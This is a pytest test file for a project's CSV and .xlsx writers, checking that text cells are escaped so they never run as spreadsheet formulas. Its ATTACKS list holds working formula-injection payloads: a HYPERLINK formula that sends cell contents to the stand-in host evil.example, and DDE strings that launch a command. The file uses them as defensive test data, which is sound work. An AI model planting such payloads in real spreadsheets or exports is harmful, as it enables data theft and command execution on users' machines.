"""The shared CSV/.xlsx cell writers: user text never reaches a spreadsheet as a formula."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest

from payung.core.spreadsheets import (
    CsvWriter,
    csv_cell,
    escape_text,
    new_workbook,
    unescape_text,
    write_cells,
)

from .xlsx_cells import formulas, shared_strings

ATTACKS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Klik")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_starts_get_an_apostrophe_and_come_back(text):
    """Each formula start (also after spaces) is prefixed with `'`; unescaping restores it."""
    assert escape_text(text) == "'" + text
    assert unescape_text(escape_text(text)) == text


@pytest.mark.parametrize("text", ["Budi Santoso", "O'Brien", "'quoted", "74.71", "", "Rp 1.000"])
def test_ordinary_text_is_left_alone(text):
    assert escape_text(text) == text
    assert unescape_text(text) == text


def test_numbers_we_computed_stay_numbers():
    """A negative amount is data: written as a number, not escaped text."""
    assert csv_cell(Decimal("-13780")) == Decimal("-13780")
    assert csv_cell(-5) == -5
    assert csv_cell("-5") == "'-5"  # text that looks like a number is still text
    assert csv_cell(None) == ""
    assert csv_cell(date(2018, 10, 31)) == "2018-10-31"


def test_csv_writer_escapes_text_cells_and_keeps_numbers():
    out = io.StringIO()
    CsvWriter(out).writerows([["ref", "amount"], ["=1+1", Decimal("-1200")], ["ok", 5]])
    assert out.getvalue() == "ref,amount\r\n'=1+1,-1200\r\nok,5\r\n"


def test_a_cell_with_a_semicolon_is_quoted_against_a_semicolon_list_separator():
    """Excel set to `;` would split `a;=1+1` and run the second half: such a row is quoted."""
    out = io.StringIO()
    CsvWriter(out).writerow(["a;=1+1", "b", Decimal(3)])
    assert out.getvalue() == '"a;=1+1","b",3\r\n'
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["a;=1+1", "b", "3"]


def test_workbook_writes_text_as_text_even_through_write():
    """`write_cells` writes strings; a stray `write` on our workbook keeps text as text too."""
    out = io.BytesIO()
    workbook = new_workbook(out, in_memory=True)
    sheet = workbook.add_worksheet()
    write_cells(sheet, 0, 0, [ATTACKS[0], Decimal("-5"), None, date(2019, 1, 2)])
    sheet.write(1, 0, "=1+1")
    sheet.write(1, 1, "http://evil.example/")
    workbook.close()
    content = out.getvalue()
    assert formulas(content) == []
    assert {ATTACKS[0], "2019-01-02", "=1+1", "http://evil.example/"} <= set(
        shared_strings(content)
    )
